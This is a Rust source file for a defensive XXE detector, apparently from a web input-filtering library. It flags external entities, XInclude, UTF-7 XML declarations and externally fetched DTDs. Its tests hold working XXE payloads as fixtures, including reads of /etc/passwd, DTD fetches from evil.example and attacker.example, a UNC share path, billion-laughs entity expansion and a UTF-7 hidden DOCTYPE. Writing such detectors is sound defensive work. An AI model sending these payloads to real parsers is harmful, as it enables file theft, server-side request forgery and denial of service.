//! XML external entities: a document type that declares an entity with a SYSTEM or PUBLIC
//! identifier (file and network reads, SSRF, billion laughs through parameter entities), and
//! XInclude. Plain XML bodies and DOCTYPEs without entities stay clean.

use crate::{find_ci, signal, Detector};
use palisade_normalize::classes as bc;
use palisade_normalize::Value;
use palisade_types::{Category, Signal};

pub struct Xxe;

/// Does the text after `<!ENTITY` declare one: a name (after `%` for a parameter entity),
/// then its value in quotes or a `SYSTEM`/`PUBLIC` identifier? `<!ENTITY declarations` in a
/// comment of an HTML parser's source, or a sentence about them, names the keyword and
/// declares nothing; its `>` may be a screen of code away.
fn declares_entity(rest: &str) -> bool {
    let r = rest.trim_start();
    let spaced = r.len() < rest.len();
    let r = match r.strip_prefix('%') {
        Some(p) => p.trim_start(),
        None if spaced => r,
        None => return false,
    };
    let name = r
        .find(|c: char| c.is_whitespace() || c == '>')
        .unwrap_or(r.len());
    let after = &r[name..];
    let value = after.trim_start();
    let starts_ci = |k: &str| {
        value
            .get(..k.len())
            .is_some_and(|v| v.eq_ignore_ascii_case(k))
    };
    name > 0
        && value.len() < after.len()
        && (value.starts_with(['"', '\'']) || starts_ci("system") || starts_ci("public"))
}

/// Does the text after a `%` name a parameter entity and end it with `;` (`%file;`)?
fn pe_reference(after: &str) -> bool {
    let name = after
        .bytes()
        .take_while(|&b| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'-' | b'.' | b':'))
        .count();
    name > 0 && after.as_bytes().get(name) == Some(&b';')
}

impl Xxe {
    fn check(text: &str) -> Option<f32> {
        // Entities and XInclude both need a tag: one memchr rejects almost every value.
        if !text.as_bytes().contains(&b'<') {
            return None;
        }
        // A document type, its entities and the XML declaration come first in a document:
        // a parser given lines of text before them (a wiki page quoting an XXE example, a
        // DTD shown in a reST literal block, `> ` before each line of a reply) stops at
        // that text. Such a value is recorded, not blocked. A label on the payload's own
        // line (`test 64_1 <!DOCTYPE x[…`) still counts: a tool's or a test's prefix, not
        // a document around it. XInclude works anywhere in a fragment and keeps its weight.
        let head = text.trim_start_matches(|c: char| c.is_whitespace() || c == '\u{feff}');
        let at_start = !head[..head.find('<').unwrap_or(0)].contains(['\n', '\r']);
        let prolog = |c: f32| if at_start { c } else { c.min(0.5) };
        // An internal entity whose text refers to no other entity (`<!ENTITY nbsp
        // "&#160;">`, `<!ENTITY product "Palisade">` in a note about DTDs) reads nothing and
        // expands once; entities built of entities are billion laughs.
        let mut from = 0;
        while let Some(at) = find_ci(&text[from..], "<!entity").map(|a| from + a) {
            from = at + 8;
            if !declares_entity(&text[at + 8..]) {
                continue;
            }
            let decl = &text[at..];
            let decl = &decl[..decl.find('>').unwrap_or(decl.len())];
            // A parameter entity's own `%` marks it; one in its value refers to another
            // (`"%file;"`, the out-of-band read's relay). A DTD's plain parameter entity
            // (`<!ENTITY % additional.inline.elements "">`, a hook for wrapper DTDs) is an
            // internal entity like the rest.
            // A reference is `%name;`: a `%` before anything else is the value's own text
            // (`'<!ENTITY e "[resolved: %s]">' % url`, Python formatting the DTD it serves).
            let body = decl[8..].trim_start();
            let body = body.strip_prefix('%').unwrap_or(body);
            if find_ci(decl, "system").is_some()
                || find_ci(decl, "public").is_some()
                || body
                    .match_indices('%')
                    .any(|(i, _)| pe_reference(&body[i + 1..]))
            {
                return Some(prolog(0.95));
            }
            let nested = decl
                .match_indices('&')
                .any(|(i, _)| decl.as_bytes().get(i + 1) != Some(&b'#'));
            if nested {
                return Some(prolog(0.75));
            }
        }
        if find_ci(text, "<xi:include").is_some() && find_ci(text, "href").is_some() {
            return Some(0.85);
        }
        // A document declared in UTF-7 (`<?xml version="1.0" encoding="UTF-7"?>` then
        // `+ADwAIQ-DOCTYPE …`): its markup is hidden from every filter that reads bytes, and
        // the parser decodes it back. No XML producer writes UTF-7.
        if let Some(at) = find_ci(text, "<?xml") {
            let decl = &text[at..];
            let decl = match decl.find("?>") {
                Some(end) => &decl[..end],
                None => crate::head(decl, 200),
            };
            let lower = decl.to_ascii_lowercase();
            let encoding = lower.split("encoding").nth(1).map(|r| {
                r.trim_start_matches(|c: char| c == '=' || c.is_whitespace())
                    .trim_start_matches(['"', '\''])
            });
            // Decisive: an XML body is several lines, a document to the registry.
            if encoding.is_some_and(|e| e.starts_with("utf-7") || e.starts_with("utf7")) {
                return Some(prolog(0.95));
            }
        }
        // An external DTD the parser fetches (`<!DOCTYPE x SYSTEM "http://attacker/x.dtd">`):
        // out-of-band XXE and SSRF without an entity in the document. Standards bodies'
        // DTDs (XHTML's, a Servlet descriptor's) are what real documents name.
        if let Some(at) = find_ci(text, "<!doctype") {
            let decl = &text[at..];
            let decl = &decl[..decl.find(['>', '[']).unwrap_or(decl.len())];
            if let Some(sys) = find_ci(decl, " system") {
                let id = decl[sys + 7..].trim_start().trim_start_matches(['"', '\'']);
                let lower = id.to_ascii_lowercase();
                let local = ["file:", "jar:", "php:", "expect:", "netdoc:", "gopher:"]
                    .iter()
                    .any(|s| lower.starts_with(s));
                // A network-path reference (`//attacker/x.dtd`) takes the document's own
                // scheme; a UNC path (`\\attacker\share\x.dtd`) is SMB on Windows.
                let schemeless = lower.starts_with("//") || lower.starts_with("\\\\");
                let remote = lower.starts_with("http://")
                    || lower.starts_with("https://")
                    || lower.starts_with("ftp://")
                    || schemeless;
                let host = if schemeless {
                    &lower[2..]
                } else {
                    lower.split("://").nth(1).unwrap_or("")
                };
                let host = host.split(['/', ':', '\\']).next().unwrap_or("");
                let standard = [
                    "w3.org/",
                    "java.sun.com/",
                    "apache.org/",
                    "oasis-open.org/",
                    "jcp.org/",
                    "springframework.org/",
                    "hibernate.org/",
                    "mybatis.org/",
                ]
                .iter()
                .any(|h| {
                    let h = h.trim_end_matches('/');
                    host.strip_suffix(h)
                        .is_some_and(|rest| rest.is_empty() || rest.ends_with('.'))
                });
                if local {
                    return Some(prolog(0.95));
                }
                if remote && !standard {
                    return Some(prolog(0.8));
                }
            }
        }
        None
    }
}

impl Detector for Xxe {
    fn name(&self) -> &'static str {
        "xxe"
    }

    fn inspect(&self, value: &Value, out: &mut Vec<Signal>) {
        if !value.classes.any(bc::LT) {
            return;
        }
        if let Some(c) = Xxe::check(value.text()) {
            out.push(signal(
                "xxe",
                Category::Xxe,
                c,
                value,
                value.text(),
                "external entity or DTD",
            ));
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn hit(s: &str) -> bool {
        crate::hits(&Xxe, s)
    }

    #[test]
    fn external_entities_are_caught() {
        for s in [
            "<!DOCTYPE x[<!ENTITY x SYSTEM \"http://html5sec.org/test.xxe\">]><y>&x;</y>",
            "<?xml version=\"1.0\"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><foo>&xxe;</foo>",
            "<!DOCTYPE r [<!ENTITY % remote PUBLIC \"x\" \"http://evil.example/x.dtd\"> %remote;]>",
            "<root xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file:///etc/passwd\"/></root>",
            // An external DTD fetched from anywhere (session 15, held-out XXE set).
            "<?xml version=\"1.0\"?><!DOCTYPE x SYSTEM \"http://attacker.example/x.dtd\"><x>1</x>",
            "<!DOCTYPE x SYSTEM \"file:///etc/passwd\"><x/>",
            // A network-path or UNC reference to the DTD (GoTestWAF xml-injection, session 24).
            "<!DOCTYPE x SYSTEM \"//x/x\"><x>a</x>",
            "<!DOCTYPE x SYSTEM \"\\\\attacker\\share\\x.dtd\"><x>a</x>",
            // A document declared in UTF-7 hides its markup (GoTestWAF community-xxe, session 24).
            "<?xml version=\"1.0\" encoding=\"UTF-7\"?>\n+ADwAIQ-DOCTYPE foo+AFs +ADwAIQ-ELEMENT foo ANY +AD4",
            "<?xml version='1.0' encoding = 'utf-7' ?><x/>",
            // Entities built of entities: billion laughs (session 21).
            "<!DOCTYPE lolz [<!ENTITY lol \"lol\"><!ENTITY lol1 \"&lol;&lol;&lol;&lol;\">]><lolz>&lol1;</lolz>",
            // Declarations spaced or glued as parsers still take them (session 26).
            "<!DOCTYPE r [<!ENTITY%remote SYSTEM \"http://evil.example/x.dtd\">%remote;]>",
            "<!DOCTYPE r [<!ENTITY\n  xxe\n  SYSTEM 'file:///etc/passwd'>]><r>&xxe;</r>",
        ] {
            assert!(hit(s), "missed: {s}");
        }
    }

    #[test]
    fn plain_xml_stays_clean() {
        for s in [
            "<?xml version=\"1.0\"?><order><id>7</id></order>",
            "<!DOCTYPE html><html><body>hi</body></html>",
            "<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" \"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd\"><html/>",
            "<!DOCTYPE web-app SYSTEM \"http://java.sun.com/dtd/web-app_2_3.dtd\"><web-app/>",
            "<!DOCTYPE mapper PUBLIC \"-//mybatis.org//DTD Mapper 3.0//EN\" \"https://mybatis.org/dtd/mybatis-3-mapper.dtd\"><mapper/>",
            "the include directive is documented",
            // Other encodings, and UTF-7 named outside a declaration (session 24).
            "<?xml version=\"1.0\" encoding=\"UTF-8\"?><note>UTF-7 is not allowed here</note>",
            "<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?><x>1</x>",
            // A relative DTD file next to the document (session 24).
            "<!DOCTYPE note SYSTEM \"Note.dtd\"><note/>",
            "<!DOCTYPE html SYSTEM \"about:legacy-compat\"><html/>",
            // An internal entity of plain text or character references (session 21).
            "<!ENTITY nbsp \"&#160;\"> is declared in the DTD",
            "<!DOCTYPE doc [<!ENTITY product \"Palisade\">]><doc>&product;</doc>",
            // The keyword named in a parser's comment, its `>` a screen of code away
            // (CPython's `_markupbase.py`, long-document set 72, session 26).
            "    # Internal -- scan past <!ENTITY declarations\n    def _parse_doctype_entity(self, i):\n        if rawdata[i:i+1] == \"%\":\n            j = i + 1\n        return j > 0",
        ] {
            assert!(!hit(s), "false positive: {s}");
        }
    }
}
